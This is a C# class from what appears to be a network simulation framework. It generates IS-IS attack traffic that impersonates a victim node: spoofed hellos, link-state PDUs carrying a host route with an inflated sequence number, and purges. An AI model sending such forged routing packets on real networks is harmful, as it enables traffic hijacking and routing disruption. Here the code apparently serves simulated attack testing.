using Weft.Wire;
using Weft.Wire.Isis;

namespace Weft.Simulation;

/// <summary>Speaks IS-IS from an access port: in turn a hello, a link-state PDU with a host route, and a purge, each in the name of a node.</summary>
public sealed class IsisImpostor(AttackPace pace, MacAddress mac, SystemId victim, IpAddress address) : PacedAttacker(pace)
{
    private const int Kinds = 3;
    private const ushort HoldSeconds = 30;
    private const ushort LifetimeSeconds = 1200;

    /// <summary>Above what an honest node has reached, so that it would be believed.</summary>
    private const uint FirstSequence = 0x0010_0000;

    protected override void Strike(long number, IHostEffects effects)
    {
        Span<byte> frame = stackalloc byte[FrameLimit];
        Span<byte> area = frame[IsisFrame.HeaderLength..];
        uint sequence = FirstSequence + (uint)number;
        Span<byte> pdu = (number % Kinds) switch
        {
            0 => new IsisPduWriter(area, new PointToPointHelloHeader(IsisLevels.Level2, victim, HoldSeconds, 1)).Finish(),
            1 => LinkState(area, sequence, LifetimeSeconds),
            _ => LinkState(area, sequence, 0),
        };
        IsisFrame.WriteHeader(frame, mac, pdu.Length);
        effects.Send(frame[..(IsisFrame.HeaderLength + pdu.Length)]);
    }

    private Span<byte> LinkState(Span<byte> area, uint sequence, ushort lifetime)
    {
        IsisPduWriter writer = new(area, IsisPduType.Level2LinkState, new LspHeader(lifetime, new LspId(victim, 0, 0), sequence, 0, LspFlags.Level2));
        Span<byte> entry = stackalloc byte[64];
        PrefixReach reach = new(IpPrefix.Host(address), 0, false, false, []);
        writer.Append(address.IsIpv6 ? IsisTlvType.Ipv6Reach : IsisTlvType.ExtendedIpReach, entry[..reach.Write(entry)]);
        return writer.Finish();
    }
}
